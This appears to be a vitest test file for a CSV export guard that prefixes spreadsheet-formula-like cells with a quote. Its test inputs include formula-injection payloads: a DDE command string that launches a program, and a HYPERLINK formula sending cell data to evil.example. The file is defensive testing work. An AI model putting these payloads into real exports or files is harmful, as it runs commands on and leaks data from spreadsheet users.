// The alerts CSV export's cell guard (issue 13, point 9): a cell a spreadsheet would evaluate as a
// formula is prefixed with ' — everything starting with = + - @ tab or CR, except a whole plain
// number. Before the fix any cell matching ^-?\d went through, so `-1+cmd|' /C calc'!A0` did.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../backend/src/alerts/routes.ts';

/** The cell's text as a spreadsheet reads it (the CSV quoting undone). */
function unquote(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

describe('CSV cell guard', () => {
  it.each([
    // [cell, as written]
    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
    ['-0+HYPERLINK("http://evil.example/?x="&A1,"open")', `"'-0+HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`],
    ['-2-3', "'-2-3"],
    ['-1e5+1', "'-1e5+1"],
    ['=SUM(A1:A2)', "'=SUM(A1:A2)"],
    ['+1', "'+1"],
    ['@cmd', "'@cmd"],
    ['\t=1', "'\t=1"],
    ['-12', '-12'],
    ['3.5', '3.5'],
    ['-0.25', '-0.25'],
    ['1e+21', '1e+21'],
    ['-1.5e-7', '-1.5e-7'],
    ['已联系企业核实', '已联系企业核实'],
    ['a, "b"', '"a, ""b"""'],
  ])('%j is written as %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('numbers pass through unchanged', () => {
    for (const n of [0, -12, 3.5, -0.001, 1e21, -1.5e-7, 12345678.9]) expect(csvCell(n)).toBe(String(n));
  });

  it('property: a written cell never starts like a formula unless it is a whole plain number', () => {
    const formulaish = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '-1', '-0', ''), fc.string()).map(([a, b]) => a + b);
    fc.assert(fc.property(fc.oneof(fc.string(), formulaish), (s) => {
      const read = unquote(csvCell(s));
      expect(!FORMULA_START.test(read) || PLAIN_NUMBER.test(read)).toBe(true);
      // and nothing is lost: the original is the written text, less at most the guard's quote
      expect(read === s || read === `'${s}`).toBe(true);
    }), { numRuns: 2000 });
  });
});
